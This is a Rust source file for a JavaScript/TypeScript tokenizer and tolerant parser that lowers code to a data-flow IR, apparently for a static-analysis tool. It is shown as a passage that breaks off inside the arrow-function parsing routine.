//! JavaScript/TypeScript front-end: tokenizer (template literals with nested `${}`,
//! regex literals, comments, shebang) and a tolerant statement/expression parser lowering
//! to the data-flow IR. TypeScript annotations, interfaces and type aliases are skipped.

use super::ir::*;
use super::python::DepthGuard;
use super::token::*;

const OPS: &[&str] = &[
    ">>>=", "...", "===", "!==", "**=", "<<=", ">>=", ">>>", "&&=", "||=", "??=", "=>", "==", "!=",
    "<=", ">=", "&&", "||", "??", "?.", "++", "--", "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=",
    "**", "<<", ">>", "+", "-", "*", "/", "%", "&", "|", "^", "!", "~", "<", ">", "(", ")", "[",
    "]", "{", "}", ",", ":", ".", ";", "=", "?", "@", "#",
];

pub fn parse(src: &str) -> Module {
    let src = src.strip_prefix('\u{feff}').unwrap_or(src);
    let (mut module, unparsed) = collect_unparsed(|| {
        let toks = lex(src, 1);
        let mut p = Parser {
            t: &toks,
            i: 0,
            functions: Vec::new(),
            weak: 0,
            class: None,
            pending: Vec::new(),
            stmt_level: false,
            no_assign: 0,
        };
        let body = p.statements(false);
        let mut m = Module::new(Lang::JavaScript);
        m.body = body;
        m.functions = p.functions;
        m
    });
    module.unparsed = unparsed;
    module
}

/// Reports a token the grammar had no place for.
fn unexpected(t: &Token) {
    note_unparsed(t.pos.line, t.pos.line, || {
        format!(
            "unexpected {}",
            match &t.tok {
                Tok::Name(n) => format!("name `{n}`"),
                Tok::Str(_) => "string".into(),
                Tok::Num(_) => "number".into(),
                Tok::Op(o) => format!("`{o}`"),
                Tok::Regex => "regular expression".into(),
            }
        )
    });
}

fn too_deep(line: u32) {
    note_unparsed(line, line, || "nested too deeply".into());
}

fn lex(src: &str, line: u32) -> Vec<Token> {
    let mut c = Cursor::new(src, line);
    if src.starts_with("#!") {
        while c.peek().is_some_and(|b| b != b'\n') {
            c.bump();
        }
    }
    let toks = lex_tokens(&mut c, false).0;
    check_brackets(&toks);
    toks
}

/// Reports a closing bracket that does not match the open one and brackets never closed:
/// the parser recovers from both silently, pairing the wrong groups.
fn check_brackets(toks: &[Token]) {
    let mut open: Vec<(&str, u32)> = Vec::new();
    for t in toks {
        let Tok::Op(o) = t.tok else { continue };
        let want = match o {
            "(" | "[" | "{" => {
                open.push((o, t.pos.line));
                continue;
            }
            ")" => "(",
            "]" => "[",
            "}" => "{",
            _ => continue,
        };
        match open.last() {
            Some((top, _)) if *top == want => {
                open.pop();
            }
            _ => {
                note_unparsed(t.pos.line, t.pos.line, || format!("mismatched `{o}`"));
                // Resynchronise on the nearest matching opener, if any.
                if let Some(k) = open.iter().rposition(|(x, _)| *x == want) {
                    open.truncate(k);
                }
            }
        }
    }
    if let Some((o, line)) = open.first() {
        note_unparsed(*line, *line, || format!("`{o}` never closed"));
    }
}

/// Tokens from the cursor to the end, or (`in_template`) to the `}` that closes a `${`
/// substitution, which is consumed; the flag says whether that `}` was found.
fn lex_tokens(c: &mut Cursor, in_template: bool) -> (Vec<Token>, bool) {
    let mut out: Vec<Token> = Vec::new();
    let mut nl = false;
    let mut braces = 0u32;
    while let Some(b) = c.peek() {
        match b {
            b'\n' => {
                nl = true;
                c.bump();
                continue;
            }
            b' ' | b'\t' | b'\r' | b'\x0c' => {
                c.bump();
                continue;
            }
            b'/' if c.peek_at(1) == Some(b'/') => {
                while c.peek().is_some_and(|b| b != b'\n') {
                    c.bump();
                }
                continue;
            }
            b'/' if c.peek_at(1) == Some(b'*') => {
                let open = c.line;
                c.bump();
                c.bump();
                if !c.rest().windows(2).any(|w| w == b"*/") {
                    note_unparsed(open, TO_END, || "comment never closed".into());
                }
                while c.peek().is_some() && !c.rest().starts_with(b"*/") {
                    if c.peek() == Some(b'\n') {
                        nl = true;
                    }
                    c.bump();
                }
                c.bump();
                c.bump();
                continue;
            }
            _ => {}
        }
        let pos = c.pos();
        let tok = if is_ident_start(b) || b == b'$' {
            let from = c.i;
            while c.peek().is_some_and(|b| is_ident_char(b) || b == b'$') {
                c.bump();
            }
            Tok::Name(c.slice(from, c.i))
        } else if b.is_ascii_digit()
            || (b == b'.' && c.peek_at(1).is_some_and(|d| d.is_ascii_digit()))
        {
            let from = c.i;
            while c
                .peek()
                .is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'.')
            {
                c.bump();
            }
            Tok::Num(parse_int(c.slice(from, c.i).trim_end_matches('n')))
        } else if b == b'"' || b == b'\'' {
            c.bump();
            let from = c.i;
            while let Some(x) = c.peek() {
                if x == b'\\' {
                    c.bump();
                } else if x == b || x == b'\n' {
                    break;
                }
                c.bump();
            }
            if c.peek() != Some(b) {
                note_unparsed(pos.line, pos.line, || {
                    "string not closed on its line".into()
                });
            }
            let s = unescape(&c.slice(from, c.i));
            c.bump();
            Tok::Str(vec![StrPart::Lit(s)])
        } else if b == b'`' {
            c.bump();
            template(c, pos.line)
        } else if b == b'/' && regex_allowed(out.last()) {
            c.bump();
            let mut class = false;
            while let Some(x) = c.peek() {
                match x {
                    b'\\' => {
                        c.bump();
                    }
                    b'[' => class = true,
                    b']' => class = false,
                    b'/' if !class => break,
                    b'\n' => break,
                    _ => {}
                }
                c.bump();
            }
            if c.peek() != Some(b'/') {
                note_unparsed(pos.line, pos.line, || {
                    "regular expression not closed on its line".into()
                });
            }
            c.bump();
            while c.peek().is_some_and(|b| b.is_ascii_alphabetic()) {
                c.bump();
            }
            Tok::Regex
        } else if let Some(op) = match_op(c.rest(), OPS) {
            for _ in 0..op.len() {
                c.bump();
            }
            if in_template {
                match op {
                    "{" => braces += 1,
                    "}" if braces == 0 => return (out, true),
                    "}" => braces -= 1,
                    _ => {}
                }
            }
            Tok::Op(op)
        } else {
            note_unparsed(pos.line, pos.line, || {
                format!("unexpected character {:?}", char::from(b))
            });
            c.bump();
            continue;
        };
        out.push(Token {
            tok,
            pos,
            nl_before: nl,
        });
        nl = false;
    }
    (out, !in_template)
}

fn regex_allowed(prev: Option<&Token>) -> bool {
    match prev.map(|t| &t.tok) {
        None => true,
        Some(Tok::Op(o)) => !matches!(*o, ")" | "]" | "}" | "++" | "--"),
        Some(Tok::Name(n)) => matches!(
            n.as_str(),
            "return"
                | "typeof"
                | "instanceof"
                | "in"
                | "of"
                | "new"
                | "delete"
                | "void"
                | "throw"
                | "case"
                | "do"
                | "else"
                | "yield"
                | "await"
        ),
        _ => false,
    }
}

/// Template literal body after the opening backtick; `${…}` substitutions are lexed as
/// code (they may hold strings, regexes and templates of their own).
fn template(c: &mut Cursor, open_line: u32) -> Tok {
    let mut parts = Vec::new();
    let mut from = c.i;
    while let Some(b) = c.peek() {
        match b {
            b'\\' => {
                c.bump();
                c.bump();
                continue;
            }
            b'`' => {
                break;
            }
            b'$' if c.peek_at(1) == Some(b'{') => {
                if c.i > from {
                    parts.push(StrPart::Lit(unescape(&c.slice(from, c.i))));
                }
                c.bump();
                c.bump();
                let line = c.line;
                let toks = match DepthGuard::enter() {
                    Some(_g) => {
                        let (toks, closed) = lex_tokens(c, true);
                        if !closed {
                            note_unparsed(line, TO_END, || {
                                "template substitution never closed".into()
                            });
                        }
                        toks
                    }
                    None => {
                        too_deep(line);
                        while c.peek().is_some_and(|b| b != b'}') {
                            c.bump();
                        }
                        c.bump();
                        Vec::new()
                    }
                };
                parts.push(StrPart::Expr(toks));
                from = c.i;
                continue;
            }
            _ => {}
        }
        c.bump();
    }
    if c.i > from {
        parts.push(StrPart::Lit(unescape(&c.slice(from, c.i))));
    }
    if c.peek().is_none() {
        note_unparsed(open_line, TO_END, || "template literal never closed".into());
    }
    c.bump();
    Tok::Str(parts)
}

struct Parser<'a> {
    t: &'a [Token],
    i: usize,
    functions: Vec<Function>,
    weak: u32,
    class: Option<String>,
    /// Assignments made inside expressions (`(x = v)`, `(a ||= []).push(…)`), emitted
    /// before the statement that holds them.
    pending: Vec<Stmt>,
    /// The next `expr` is a statement's own: its `=` is the statement's assignment.
    stmt_level: bool,
    /// Inside an array pattern, where `a = 1` is a default, not an assignment.
    no_assign: u32,
}

fn bp(op: &str) -> Option<u8> {
    Some(match op {
        "??" | "||" => 3,
        "&&" => 4,
        "|" => 5,
        "^" => 6,
        "&" => 7,
        "==" | "!=" | "===" | "!==" => 8,
        "<" | ">" | "<=" | ">=" | "instanceof" | "in" => 9,
        "<<" | ">>" | ">>>" => 10,
        "+" | "-" => 11,
        "*" | "/" | "%" => 12,
        "**" => 13,
        _ => return None,
    })
}

const ASSIGN_OPS: &[&str] = &[
    "=", "+=", "-=", "*=", "/=", "%=", "**=", "<<=", ">>=", ">>>=", "&=", "|=", "^=", "&&=", "||=",
    "??=",
];

impl<'a> Parser<'a> {
    fn peek(&self) -> Option<&'a Token> {
        self.t.get(self.i)
    }
    fn peek_at(&self, k: usize) -> Option<&'a Token> {
        self.t.get(self.i + k)
    }
    fn at_op(&self, op: &str) -> bool {
        self.peek().is_some_and(|t| t.is_op(op))
    }
    fn at_name(&self, n: &str) -> bool {
        self.peek().is_some_and(|t| t.is_name(n))
    }
    fn eat_op(&mut self, op: &str) -> bool {
        if self.at_op(op) {
            self.i += 1;
            true
        } else {
            false
        }
    }
    fn pos(&self) -> Pos {
        self.peek().map(|t| t.pos).unwrap_or_default()
    }

    /// Index just past the bracket group opening at `self.i`.
    fn skip_group(&mut self) {
        let mut depth = 0i32;
        while let Some(t) = self.peek() {
            self.i += 1;
            match &t.tok {
                Tok::Op("(" | "[" | "{") => depth += 1,
                Tok::Op(")" | "]" | "}") => {
                    depth -= 1;
                    if depth <= 0 {
                        return;
                    }
                }
                _ => {}
            }
        }
    }

    /// Skips a TypeScript type annotation up to `,` `)` `=` `;` `{` (at depth 0) or `=>`.
    fn skip_type(&mut self) {
        let mut depth = 0i32;
        // `(a: T) => U`: a function type, whose `=>` does not end it.
        let function_type = self.at_op("(");
        while let Some(t) = self.peek() {
            match &t.tok {
                Tok::Op("(" | "[" | "<") => depth += 1,
                Tok::Op(")" | "]" | ">") if depth > 0 => depth -= 1,
                // `Array<Array<T>>` closes two at once.
                Tok::Op(">>") if depth > 0 => depth = (depth - 2).max(0),
                Tok::Op(">>>") if depth > 0 => depth = (depth - 3).max(0),
                Tok::Op("=>") if depth == 0 && function_type && self.t[self.i - 1].is_op(")") => {}
                Tok::Op("{") if depth == 0 && self.i > 0 && !self.t[self.i - 1].is_op(":") => {
                    return;
                }
                Tok::Op("{") => {
                    self.skip_group();
                    continue;
                }
                Tok::Op("," | ")" | "=" | ";" | "]" | "}" | "=>") if depth == 0 => return,
                _ if depth == 0 && t.nl_before => return,
                _ => {}
            }
            self.i += 1;
        }
    }

    fn statements(&mut self, until_brace: bool) -> Vec<Stmt> {
        let mut out = Vec::new();
        let Some(_guard) = DepthGuard::enter() else {
            // Too deep: skip to the end of this block.
            too_deep(self.pos().line);
            let mut depth = 0i32;
            while let Some(t) = self.peek() {
                self.i += 1;
                if t.is_op("{") {
                    depth += 1;
                } else if t.is_op("}") {
                    if depth == 0 {
                        break;
                    }
                    depth -= 1;
                }
            }
            return out;
        };
        let open = self.i.checked_sub(1).map(|k| self.t[k].pos.line);
        let outer = std::mem::take(&mut self.pending);
        let mut closed = !until_brace;
        while let Some(t) = self.peek() {
            if t.is_op("}") {
                self.i += 1;
                if until_brace {
                    closed = true;
                    break;
                }
                unexpected(t);
                continue;
            }
            let before = self.i;
            let at = out.len();
            self.statement(&mut out);
            if !self.pending.is_empty() {
                out.splice(at..at, std::mem::take(&mut self.pending));
            }
            if self.i == before {
                unexpected(t);
                self.i += 1;
            }
        }
        if !closed && let Some(line) = open {
            note_unparsed(line, line, || "block never closed".into());
        }
        out.append(&mut self.pending);
        self.pending = outer;
        out
    }

    /// A statement or a braced block, as the body of if/for/while.
    fn body(&mut self, out: &mut Vec<Stmt>) {
        self.weak += 1;
        if self.eat_op("{") {
            out.extend(self.statements(true));
        } else {
            self.statement(out);
        }
        self.weak -= 1;
    }

    fn paren_expr(&mut self) -> Expr {
        if self.eat_op("(") {
            let e = self.expr_seq();
            self.eat_op(")");
            e
        } else {
            Expr::Unknown
        }
    }

    fn statement(&mut self, out: &mut Vec<Stmt>) {
        let Some(t) = self.peek() else { return };
        let pos = t.pos;
        if t.is_op(";") {
            self.i += 1;
            return;
        }
        if t.is_op("{") {
            self.i += 1;
            out.extend(self.statements(true));
            return;
        }
        if t.is_op("@") {
            // Decorator.
            self.i += 1;
            let _ = self.unary();
            return;
        }
        let kw = t.name().unwrap_or("");
        // `kw:` is an object key or label, not a keyword.
        let is_label = self.peek_at(1).is_some_and(|n| n.is_op(":"));
        if is_label && !kw.is_empty() {
            self.i += 2;
            return;
        }
        match kw {
            "import"
                if !self
                    .peek_at(1)
                    .is_some_and(|n| n.is_op("(") || n.is_op(".")) =>
            {
                self.import(out)
            }
            "export" => {
                self.i += 1;
                if self.at_name("default") {
                    self.i += 1;
                }
                if self.at_op("{") || self.at_op("*") {
                    // Re-exports: skip to end of statement.
                    while let Some(t) = self.peek() {
                        self.i += 1;
                        if t.is_op(";") || self.peek().is_some_and(|n| n.nl_before) {
                            break;
                        }
                    }
                    return;
                }
                self.statement(out);
            }
            "const" | "let" | "var" => {
                self.i += 1;
                self.declarations(out, pos);
            }
            "async" if self.peek_at(1).is_some_and(|n| n.is_name("function")) => {
                self.i += 1;
                self.statement(out);
            }
            "function" => {
                self.i += 1;
                self.eat_op("*");
                let name = self.peek().and_then(|t| t.name()).unwrap_or("").to_string();
                if !name.is_empty() {
                    self.i += 1;
                }
                let f = self.function_rest(name, pos);
                self.functions.push(f);
                out.push(Stmt::Def(self.functions.len() - 1));
            }
            "class" => self.class_decl(out),
            "interface" | "enum" | "namespace" | "module" | "declare"
                if self.peek_at(1).is_some_and(|n| n.name().is_some()) =>
            {
                while let Some(t) = self.peek() {
                    if t.is_op("{") {
                        self.skip_group();
                        break;
                    }
                    if t.is_op(";") {
                        self.i += 1;
                        break;
                    }
                    self.i += 1;
                }
            }
            "type"
                if self.peek_at(1).is_some_and(|n| n.name().is_some())
                    && self
                        .peek_at(2)
                        .is_some_and(|n| n.is_op("=") || n.is_op("<")) =>
            {
                self.i += 2;
                self.skip_type_alias();
            }
            "if" => {
                self.i += 1;
                let c = self.paren_expr();
                out.push(Stmt::Expr(c));
                self.body(out);
                if self.at_name("else") {
                    self.i += 1;
                    self.body(out);
                }
            }
            "while" => {
                self.i += 1;
                let c = self.paren_expr();
                out.push(Stmt::Expr(c));
                self.body(out);
            }
            "do" => {
                self.i += 1;
                self.body(out);
                if self.at_name("while") {
                    self.i += 1;
                    let c = self.paren_expr();
                    out.push(Stmt::Expr(c));
                }
            }
            "for" => {
                self.i += 1;
                if self.at_name("await") {
                    self.i += 1;
                }
                self.for_header(out, pos);
                self.body(out);
            }
            "switch" => {
                self.i += 1;
                let c = self.paren_expr();
                out.push(Stmt::Expr(c));
                if self.eat_op("{") {
                    self.weak += 1;
                    while let Some(t) = self.peek() {
                        if t.is_op("}") {
                            self.i += 1;
                            break;
                        }
                        if t.is_name("case") {
                            self.i += 1;
                            let e = self.expr();
                            out.push(Stmt::Expr(e));
                            self.eat_op(":");
                            continue;
                        }
                        if t.is_name("default") && self.peek_at(1).is_some_and(|n| n.is_op(":")) {
                            self.i += 2;
                            continue;
                        }
                        let before = self.i;
                        self.statement(out);
                        if self.i == before {
                            unexpected(t);
                            self.i += 1;
                        }
                    }
                    self.weak -= 1;
                }
            }
            "try" => {
                self.i += 1;
                self.body(out);
                if self.at_name("catch") {
                    self.i += 1;
                    if self.at_op("(") {
                        self.skip_group();
                    }
                    self.body(out);
                }
                if self.at_name("finally") {
                    self.i += 1;
                    self.body(out);
                }
            }
            "return" | "throw" => {
                self.i += 1;
                let has_value = self
                    .peek()
                    .is_some_and(|n| !n.nl_before && !n.is_op(";") && !n.is_op("}"));
                let e = if has_value {
                    self.expr_seq()
                } else {
                    Expr::Unknown
                };
                if kw == "return" {
                    out.push(Stmt::Return(e));
                } else {
                    out.push(Stmt::Expr(e));
                }
                self.end_of_statement();
            }
            "break" | "continue" | "debugger" => {
                self.i += 1;
                if self
                    .peek()
                    .is_some_and(|n| !n.nl_before && n.name().is_some())
                {
                    self.i += 1;
                }
                self.eat_op(";");
            }
            _ => self.expression_statement(out, pos),
        }
    }

    fn skip_type_alias(&mut self) {
        let mut depth = 0i32;
        while let Some(t) = self.peek() {
            match &t.tok {
                Tok::Op("(" | "[" | "{" | "<") => depth += 1,
                Tok::Op(")" | "]" | "}" | ">") => depth -= 1,
                Tok::Op(";") if depth <= 0 => {
                    self.i += 1;
                    return;
                }
                _ if depth <= 0
                    && t.nl_before
                    && self.i > 0
                    && !self.t[self.i - 1].is_op("=")
                    && !t.is_op("|")
                    && !t.is_op("&") =>
                {
                    return;
                }
                _ => {}
            }
            self.i += 1;
        }
    }

    /// `a = 1, b.c = 2;`: each comma-separated assignment is a statement of its own.
    fn expression_statement(&mut self, out: &mut Vec<Stmt>, pos: Pos) {
        loop {
            self.expression_statement_part(out, pos);
            if !self.eat_op(",") {
                break;
            }
        }
        self.end_of_statement();
    }

    fn expression_statement_part(&mut self, out: &mut Vec<Stmt>, pos: Pos) {
        self.stmt_level = true;
        let lhs = self.expr_seq();
        self.stmt_level = false;
        if let Some(Tok::Op(op)) = self.peek().map(|t| &t.tok)
            && ASSIGN_OPS.contains(op)
        {
            self.i += 1;
            let rhs = self.assignment_rhs();
            let value = match *op {
                "=" => rhs,
                "+=" => Expr::Concat(vec![lhs.clone(), rhs]),
                _ => Expr::Mix(vec![lhs.clone(), rhs]),
            };
            let target = match lhs {
                Expr::Name(n, _) => Target::Name(n),
                Expr::Attr(b, f, _) => Target::Attr(*b, f),
                Expr::Index(b, _, _) => Target::Index(*b),
                Expr::Dict(fields) => Target::Destructure(
                    fields
                        .into_iter()
                        .filter_map(|(k, v)| match v {
                            Expr::Name(n, _) => Some((k, n)),
                            _ => None,
                        })
                        .collect(),
                ),
                Expr::List(items) => Target::Destructure(
                    items
                        .into_iter()
                        .filter_map(|v| match v {
                            Expr::Name(n, _) => Some((None, n)),
                            _ => None,
                        })
                        .collect(),
                ),
                _ => {
                    out.push(Stmt::Expr(value));
                    return;
                }
            };
            out.push(Stmt::Assign {
                targets: vec![target],
                value,
                weak: self.weak > 0 || !matches!(*op, "=" | "+="),
                pos,
            });
        } else {
            out.push(Stmt::Expr(lhs));
        }
    }

    /// A statement ends at `;`, before `}` or `)`, at a line break (ASI) or at the end;
    /// anything else on the same line is syntax the expression grammar did not take.
    fn end_of_statement(&mut self) {
        if self.eat_op(";") {
            return;
        }
        if let Some(t) = self.peek()
            && !t.nl_before
            && !t.is_op("}")
            && !t.is_op(")")
        {
            unexpected(t);
        }
    }

    /// Right-hand side of an assignment; chained `a = b = c` keeps the innermost value.
    fn assignment_rhs(&mut self) -> Expr {
        let e = self.expr();
        if let Some(Tok::Op(op)) = self.peek().map(|t| &t.tok)
            && ASSIGN_OPS.contains(op)
        {
            self.i += 1;
            return self.assignment_rhs();
        }
        e
    }

    fn declarations(&mut self, out: &mut Vec<Stmt>, pos: Pos) {
        loop {
            let target = match self.peek() {
                Some(t) if t.is_op("{") || t.is_op("[") => {
                    let pattern = self.primary();
                    pattern_target(pattern)
                }
                Some(t) if t.name().is_some() => {
                    self.i += 1;
                    Some(Target::Name(t.name().unwrap_or("").to_string()))
                }
                _ => None,
            };
            self.eat_op("!");
            if self.eat_op(":") {
                self.skip_type();
            }
            let value = if self.eat_op("=") {
                self.assignment_rhs()
            } else {
                Expr::Unknown
            };
            if let Some(target) = target {
                // `const f = function…` / arrow: name the function for call resolution.
                if let (Target::Name(n), Expr::Lambda(f)) = (&target, &value) {
                    let mut f = (**f).clone();
                    f.name = n.clone();
                    self.functions.push(f);
                    out.push(Stmt::Def(self.functions.len() - 1));
                } else {
                    out.push(Stmt::Assign {
                        targets: vec![target],
                        value,
                        weak: self.weak > 0,
                        pos,
                    });
                }
            }
            if !self.eat_op(",") {
                break;
            }
        }
        self.end_of_statement();
    }

    fn for_header(&mut self, out: &mut Vec<Stmt>, pos: Pos) {
        if !self.eat_op("(") {
            return;
        }
        let start = self.i;
        // for (const x of/in expr)
        let mut k = self.i;
        if self
            .t
            .get(k)
            .is_some_and(|t| t.is_name("const") || t.is_name("let") || t.is_name("var"))
        {
            k += 1;
        }
        let save = self.i;
        self.i = k;
        let pattern = if self.at_op("{") || self.at_op("[") {
            pattern_target(self.primary())
        } else if let Some(n) = self.peek().and_then(|t| t.name()) {
            self.i += 1;
            Some(Target::Name(n.to_string()))
        } else {
            None
        };
        if self.at_name("of") || self.at_name("in") {
            self.i += 1;
            let iter = self.expr_seq();
            self.eat_op(")");
            if let Some(t) = pattern {
                out.push(Stmt::Assign {
                    targets: vec![t],
                    value: iter,
                    weak: true,
                    pos,
                });
            }
            return;
        }
        // Classic for(;;): parse the three clauses as statements.
        self.i = save;
        let _ = start;
        self.weak += 1;
        for _ in 0..3 {
            if self.at_op(")") {
                break;
            }
            if self.eat_op(";") {
                continue;
            }
            if self.at_name("const") || self.at_name("let") || self.at_name("var") {
                self.i += 1;
                self.declarations(out, pos);
            } else {
                self.expression_statement(out, pos);
            }
        }
        self.weak -= 1;
        while let Some(t) = self.peek() {
            self.i += 1;
            if t.is_op(")") {
                break;
            }
        }
    }

    fn import(&mut self, out: &mut Vec<Stmt>) {
        let pos = self.pos();
        self.i += 1;
        if self.at_name("type") {
            self.i += 1;
        }
        let mut alias = None;
        let mut names = Vec::new();
        loop {
            match self.peek() {
                Some(t) if t.is_op("*") => {
                    self.i += 1;
                    if self.at_name("as") {
                        self.i += 1;
                        alias = self.peek().and_then(|t| t.name()).map(str::to_string);
                        self.i += 1;
                    }
                }
                Some(t) if t.is_op("{") => {
                    self.i += 1;
                    while let Some(t) = self.peek() {
                        if t.is_op("}") {
                            self.i += 1;
                            break;
                        }
                        if let Some(n) = t.name() {
                            self.i += 1;
                            if n == "type" && self.peek().is_some_and(|x| x.name().is_some()) {
                                continue;
                            }
                            let mut local = n.to_string();
                            if self.at_name("as") {
                                self.i += 1;
                                if let Some(a) = self.peek().and_then(|t| t.name()) {
                                    local = a.to_string();
                                    self.i += 1;
                                }
                            }
                            names.push((n.to_string(), local));
                        } else {
                            self.i += 1;
                        }
                    }
                }
                Some(t) if t.is_name("from") => {
                    self.i += 1;
                }
                Some(Token {
                    tok: Tok::Str(parts),
                    ..
                }) => {
                    self.i += 1;
                    let module = lit_of(parts).unwrap_or_default();
                    out.push(Stmt::Import(Import {
                        module,
                        alias,
                        names,
                        pos,
                    }));
                    self.eat_op(";");
                    return;
                }
                Some(t) if t.name().is_some() => {
                    alias = t.name().map(str::to_string);
                    // Default import: also bind `default`.
                    if let Some(a) = &alias {
                        names.push(("default".into(), a.clone()));
                    }
                    self.i += 1;
                }
                Some(t) if t.is_op(",") => {
                    self.i += 1;
                }
                _ => return,
            }
        }
    }

    fn class_decl(&mut self, out: &mut Vec<Stmt>) {
        self.i += 1;
        let name = self.peek().and_then(|t| t.name()).unwrap_or("").to_string();
        while let Some(t) = self.peek() {
            if t.is_op("{") {
                break;
            }
            self.i += 1;
        }
        if !self.eat_op("{") {
            return;
        }
        let outer = self.class.replace(name.clone());
        // Field initialisers run in each new instance: they go into the constructor (made
        // when there is none), not into the enclosing scope.
        let class_pos = self.pos();
        let mut fields: Vec<Stmt> = Vec::new();
        while let Some(t) = self.peek() {
            if t.is_op("}") {
                self.i += 1;
                break;
            }
            if t.is_op(";") {
                self.i += 1;
                continue;
            }
            let pos = t.pos;
            // Modifiers.
            while self.peek().is_some_and(|t| {
                matches!(
                    t.name(),
                    Some(
                        "static"
                            | "async"
                            | "get"
                            | "set"
                            | "public"
                            | "private"
                            | "protected"
                            | "readonly"
                            | "override"
                            | "abstract"
                    )
                ) && self
                    .peek_at(1)
                    .is_some_and(|n| !n.is_op("(") && !n.is_op("="))
            }) {
                self.i += 1;
            }
            self.eat_op("*");
            self.eat_op("#");
            let mname = match self.peek() {
                Some(t) if t.name().is_some() => {
                    self.i += 1;
                    t.name().unwrap_or("").to_string()
                }
                Some(t) if t.is_op("[") => {
                    self.skip_group();
                    "<computed>".to_string()
                }
                _ => {
                    if let Some(t) = self.peek() {
                        unexpected(t);
                    }
                    self.i += 1;
                    continue;
                }
            };
            self.eat_op("?");
            self.eat_op("!");
            if self.at_op("(") {
                let f = self.function_rest(format!("{name}.{mname}"), pos);
                let mut f = f;
                f.class = Some(name.clone());
                self.functions.push(f);
                out.push(Stmt::Def(self.functions.len() - 1));
            } else {
                if self.eat_op(":") {
                    self.skip_type();
                }
                if self.eat_op("=") {
                    let outer_pending = std::mem::take(&mut self.pending);
                    let value = self.expr();
                    fields.append(&mut self.pending);
                    self.pending = outer_pending;
                    fields.push(Stmt::Assign {
                        targets: vec![Target::Attr(Expr::Name("this".into(), pos), mname)],
                        value,
                        weak: true,
                        pos,
                    });
                }
                self.eat_op(";");
            }
        }
        if !fields.is_empty() {
            let ctor = format!("{name}.constructor");
            match self.functions.iter_mut().rev().find(|f| f.name == ctor) {
                Some(f) => {
                    fields.append(&mut f.body);
                    f.body = fields;
                }
                None => {
                    self.functions.push(Function {
                        name: ctor,
                        params: Vec::new(),
                        body: fields,
                        pos: class_pos,
                        class: Some(name.clone()),
                    });
                    out.push(Stmt::Def(self.functions.len() - 1));
                }
            }
        }
        self.class = outer;
    }

    /// `(params) [: T] { body }` after a function's name.
    fn function_rest(&mut self, name: String, pos: Pos) -> Function {
        if self.at_op("<") {
            // Generic parameters.
            let mut depth = 0;
            while let Some(t) = self.peek() {
                self.i += 1;
                if t.is_op("<") {
                    depth += 1;
                } else if t.is_op(">") {
                    depth -= 1;
                    if depth == 0 {
                        break;
                    }
                }
            }
        }
        let (params, mut body) = self.params();
        if self.eat_op(":") {
            self.skip_type();
        }
        if self.eat_op("{") {
            let outer = self.weak;
            self.weak = 0;
            body.extend(self.statements(true));
            self.weak = outer;
        }
        Function {
            name,
            params,
            body,
            pos,
            class: self.class.clone(),
        }
    }

    /// The parameter list at `(`, and a weak assignment of each default value
    /// (`function send(d = process.env)` sends the environment when called without it).
    fn params(&mut self) -> (Vec<Param>, Vec<Stmt>) {
        let mut params: Vec<Param> = Vec::new();
        let mut defaults = Vec::new();
        if !self.eat_op("(") {
            return (params, defaults);
        }
        let mut depth = 0i32;
        let mut expect_name = true;
        let mut rest = false;
        while let Some(t) = self.peek() {
            match &t.tok {
                Tok::Op(")") if depth == 0 => {
                    self.i += 1;
                    break;
                }
                Tok::Op("(" | "[" | "{") => {
                    if depth == 0 && expect_name {
                        // Destructured parameter: bind its names to the same argument.
                        let start = self.i;
                        self.skip_group();
                        let names: Vec<String> = self.t[start..self.i]
                            .iter()
                            .filter_map(|t| t.name().map(str::to_string))
                            .collect();
                        params.push(Param {
                            name: names.join(","),
                            rest: false,
                        });
                        expect_name = false;
                        continue;
                    }
                    depth += 1;
                }
                Tok::Op(")" | "]" | "}") => depth -= 1,
                Tok::Op(",") if depth == 0 => {
                    expect_name = true;
                    rest = false;
                }
                Tok::Op("...") if depth == 0 => rest = true,
                Tok::Op("=") if depth == 0 => {
                    expect_name = false;
                    let pos = t.pos;
                    self.i += 1;
                    let value = self.expr();
                    if let Some(p) = params.last().filter(|p| !p.name.contains(',')) {
                        defaults.push(Stmt::Assign {
                            targets: vec![Target::Name(p.name.clone())],
                            value,
                            weak: true,
                            pos,
                        });
                    }
                    continue;
                }
                Tok::Op(":") if depth == 0 => expect_name = false,
                Tok::Name(n)
                    if depth == 0
                        && expect_name
                        && !matches!(
                            n.as_str(),
                            "public" | "private" | "protected" | "readonly"
                        ) =>
                {
                    params.push(Param {
                        name: n.clone(),
                        rest,
                    });
                    expect_name = false;
                }
                _ => {}
            }
            self.i += 1;
        }
        (params, defaults)
    }

    /// Comma expression: keeps all parts' data.
    fn expr_seq(&mut self) -> Expr {
        let first = self.expr();
        if !self.at_op(",") {
            return first;
        }
        let mut parts = vec![first];
        while self.eat_op(",") {
            parts.push(self.expr());
        }
        Expr::Mix(parts)
    }

    fn expr(&mut self) -> Expr {
        let Some(_guard) = DepthGuard::enter() else {
            too_deep(self.pos().line);
            self.i = self.t.len();
            return Expr::Unknown;
        };
        let stmt_level = std::mem::take(&mut self.stmt_level);
        // Arrow functions.
        if let Some(f) = self.try_arrow() {
            return f;
        }
        let pos = self.pos();
        let cond = self.binary(0);
        if !stmt_level
            && self.no_assign == 0
            && let Some(Tok::Op(op)) = self.peek().map(|t| &t.tok)
            && ASSIGN_OPS.contains(op)
            && let Some(target) = assign_target(&cond)
        {
            // An assignment inside an expression: its value is the right-hand side.
            self.i += 1;
            let rhs = self.expr();
            let value = match *op {
                "=" => rhs,
                "+=" => Expr::Concat(vec![cond, rhs]),
                _ => Expr::Mix(vec![cond, rhs]),
            };
            self.pending.push(Stmt::Assign {
                targets: vec![target],
                value: value.clone(),
                weak: true,
                pos,
            });
            return value;
        }
        if self.eat_op("?") {
            let a = self.expr();
            self.eat_op(":");
            let b = self.expr();
            return Expr::Or(vec![a, b, cond]);
        }
        cond
    }

    fn try_arrow(&mut self) -> Option<Expr> {
        let start = self.i;
        let pos = self.pos();
        let mut defaults = Vec::new();
        if self.at_name("async")
            && self
                .peek_at(1)
                .is_some_and(|n| !n.nl_before && (n.is_op("(") || n.name().is_some()))
        {
            self.i += 1;
        }
        let params = match self.peek() {
            Some(t) if t.name().is_some() && self.peek_at(1).is_some_and(|n| n.is_op("=>")) => {
                self.i += 1;
                vec![Param {
                    name: t.name().unwrap_or("").to_string(),
                    rest: false,
                }]
            }
            Some(t) if t.is_op("(") => {
                let save = self.i;
                self.skip_group();
                let mut ok = self.at_op("=>");
                if !ok && self.at_op(":") {
                    // Return type annotation.
                    self.i += 1;
                    self.skip_type();
